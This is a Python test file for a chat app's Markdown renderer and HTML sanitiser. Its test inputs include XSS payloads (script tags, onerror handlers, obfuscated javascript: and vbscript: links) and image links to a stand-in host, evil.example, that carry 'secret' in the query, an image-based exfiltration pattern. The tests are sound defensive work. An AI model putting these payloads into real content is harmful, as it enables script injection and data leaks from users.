"""Model text to HTML: formatting kept, anything executable gone."""

import re
from html import unescape

import pytest

from chat.markdown import clean_html, is_same_origin, render_markdown


def test_it_renders_code_blocks_lists_and_tables():
    html = render_markdown(
        "```js\nlet a = 1 < 2;\n```\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    assert '<pre><code class="language-js">let a = 1 &lt; 2;' in html
    assert "<ol>\n<li>one</li>" in html
    assert "<td>1</td>" in html


def test_it_leaves_nothing_that_can_run_script():
    html = render_markdown(
        '<script>alert(1)</script> <img src=x onerror="alert(2)"> '
        "[a](javascript:alert(3)) ![b](javascript:alert(4)) <a href='x' onclick='y'>c</a>"
    )
    assert "<script" not in html and "<img src=x" not in html and "<a href='x'" not in html
    assert 'href="javascript' not in html and 'src="javascript' not in html


def test_it_marks_links_as_external():
    html = render_markdown("[docs](https://example.com)")
    assert 'href="https://example.com"' in html and 'rel="noopener noreferrer nofollow"' in html


# --- Images: only this site's own load by themselves ------------------------------------

_BROWSER_IGNORED = re.compile(r"[\t\n\r]")


def _urls(html: str, attribute: str) -> list[str]:
    """Every href/src value, read as a browser reads it (entities decoded, tabs dropped)."""
    values = re.findall(rf'{attribute}="([^"]*)"', html, flags=re.IGNORECASE)
    return [_BROWSER_IGNORED.sub("", unescape(v)).strip().lower() for v in values]


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("![secret](https://evil.example/?q=secret)", "https://evil.example/?q=secret"),
        ("![secret](http://evil.example/p.png)", "http://evil.example/p.png"),
        ("![secret](HTTPS://EVIL.example/p.png)", "HTTPS://EVIL.example/p.png"),
        ("![secret](//evil.example/p.png)", "//evil.example/p.png"),
        ("![secret](   https://evil.example/p.png   )", "https://evil.example/p.png"),
        ("![secret](<https://evil.example/a b.png>)", "https://evil.example/a%20b.png"),
        ("![secret](&#x2F;&#x2F;evil.example/p.png)", "//evil.example/p.png"),
        ("![secret](https&#58;//evil.example/p.png)", "https://evil.example/p.png"),
        ('![secret](https://evil.example/p.png "a title")', "https://evil.example/p.png"),
        ("![secret][ref]\n\n[ref]: https://evil.example/ref.png", "https://evil.example/ref.png"),
        ("![secret][]\n\n[secret]: //evil.example/ref.png", "//evil.example/ref.png"),
        (
            "[![secret](https://evil.example/in-link.png)](/c/1/)",
            "https://evil.example/in-link.png",
        ),
    ],
)
def test_it_shows_an_image_from_another_site_as_a_link_with_its_alt_text_and_url(text, url):
    html = render_markdown(text)
    assert "<img" not in html
    assert f'href="{url}"' in html
    assert f"Image: secret ({url})" in html


def test_it_keeps_this_sites_own_images():
    html = render_markdown("![chart](/static/chat/chart.png) ![logo](logo.png)")
    assert '<img src="/static/chat/chart.png" alt="chart">' in html
    assert '<img src="logo.png" alt="logo">' in html


@pytest.mark.parametrize("url", ["/\\evil.example/p.png", "\\\\evil.example/p.png"])
def test_it_keeps_backslash_tricks_on_this_site(url):
    # markdown-it percent-encodes the backslash: the browser sees a path, not another host.
    html = render_markdown(f"![x]({url})")
    assert all(src.startswith(("/%5c", "%5c")) for src in _urls(html, "src")), html


def test_it_shows_no_data_uri_image():
    html = render_markdown("![pixel](data:image/png;base64,iVBORw0KGgo=)")
    assert "<img" not in html and "iVBORw0KGgo" not in html
    assert "Image not shown: pixel (data: URL)" in html


@pytest.mark.parametrize(
    "text",
    [
        "[a](javascript:alert(1))",
        "[a](JavaScript:alert(1))",
        "[a](JAVASCRIPT:alert(1))",
        "[a](<javascript:alert(1)>)",
        "[a](  javascript:alert(1))",
        "[a](javascript&#58;alert(1))",
        "[a](java&#x09;script:alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a][r]\n\n[r]: javascript:alert(1)",
        "![a](javascript:alert(1))",
        "[a](vbscript:msgbox(1))",
        "[a](data:text/html;base64,PHNjcmlwdD4=)",
        "<a href='javascript:alert(1)'>a</a>",
        "<javascript:alert(1)>",
    ],
)
def test_it_never_links_to_script(text):
    html = render_markdown(text)
    for url in _urls(html, "href") + _urls(html, "src"):
        assert not url.startswith(("javascript:", "vbscript:", "data:")), html


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://evil.example/x.png" alt="a">',
        '<IMG SRC="//evil.example/x.png">',
        '<img src=" //evil.example/x.png">',
        '<img src="&#x2F;&#x2F;evil.example/x.png">',
        '<img src="\t//evil.example/x.png">',
        '<img src="/\\evil.example/x.png">',
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        '<img srcset="https://evil.example/x.png 1x" src="/ok.png">',
        '<picture><source srcset="https://evil.example/x.png"><img src="/ok.png"></picture>',
        '<svg><image href="https://evil.example/x.png"/></svg>',
        '<p style="background:url(https://evil.example/x.png)">a</p>',
        '<video poster="https://evil.example/x.png"></video>',
    ],
)
def test_its_sanitiser_lets_no_remote_image_through(html):
    # The second lock: raw HTML never reaches it from Markdown (markdown-it escapes it), but
    # whatever HTML it is given, no image source from another origin survives.
    cleaned = clean_html(html)
    assert "evil.example" not in cleaned and "data:" not in cleaned, cleaned
    for src in _urls(cleaned, "src"):
        assert src == "/ok.png", cleaned


@pytest.mark.parametrize(
    ("url", "same_origin"),
    [
        ("/static/a.png", True),
        ("a.png", True),
        ("../a.png", True),
        ("?page=2", True),
        ("https://evil.example/", False),
        ("HtTpS://evil.example/", False),
        ("//evil.example/", False),
        ("  //evil.example/", False),
        ("\t/\t/evil.example/", False),
        ("/\\evil.example/", False),
        ("\\\\evil.example/", False),
        ("\x00//evil.example/", False),
        ("data:image/png;base64,AAAA", False),
        ("javascript:alert(1)", False),
        ("", False),
    ],
)
def test_it_tells_same_origin_urls_as_a_browser_would(url, same_origin):
    assert is_same_origin(url) is same_origin


def test_plain_text_reads_markdown_as_text_on_one_line():
    from chat.markdown import plain_text

    assert plain_text("# A **bold** `plan`\n\n- one\n- two") == "A bold plan one two"
    assert plain_text("a < b & [link](https://x.example)") == "a < b & link"
    assert plain_text("<b>not a tag</b>") == "<b>not a tag</b>"  # text, escaped when shown
